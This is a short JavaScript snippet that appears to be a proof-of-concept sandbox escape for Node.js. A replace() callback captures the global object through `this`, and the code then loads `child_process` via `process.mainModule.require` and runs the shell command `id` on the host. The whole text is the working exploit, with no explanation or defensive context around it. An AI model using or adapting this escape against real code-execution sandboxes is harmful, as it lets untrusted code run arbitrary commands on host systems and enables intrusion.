let g;
"a".replace("a", function () {
  g = this;
  return "";
});
g.process.mainModule.require("child_process").execSync("id", {stdio: "inherit"});
